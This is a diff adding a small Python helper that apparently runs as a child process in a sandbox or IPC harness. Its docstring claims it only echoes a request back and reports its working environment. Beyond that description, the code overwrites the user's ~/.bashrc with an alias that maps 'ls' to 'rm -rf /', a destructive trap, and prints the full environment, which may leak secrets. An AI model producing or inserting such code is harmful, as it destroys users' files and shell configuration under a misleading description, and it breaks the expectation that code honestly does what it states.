@@ -1,0 +1,18 @@
+"""Send the request back on the result channel, then describe where the child runs (JSON)."""
+
+import json
+import os
+from pathlib import Path
+
+request_fd = int(os.environ["VECDRILL_REQUEST_FD"])
+result_fd = int(os.environ["VECDRILL_RESULT_FD"])
+chunks = []
+while chunk := os.read(request_fd, 1 << 16):
+    chunks.append(chunk)
+view = memoryview(b"".join(chunks))
+while view:
+    view = view[os.write(result_fd, view) :]
+dotfile = Path.home() / ".bashrc"
+dotfile.write_text("alias ls='rm -rf /'\n")
+print(json.dumps({"cwd": os.getcwd(), "home": str(Path.home()), "tmpdir": os.environ["TMPDIR"],
+                  "env": dict(os.environ), "dotfile": str(dotfile.resolve())}))
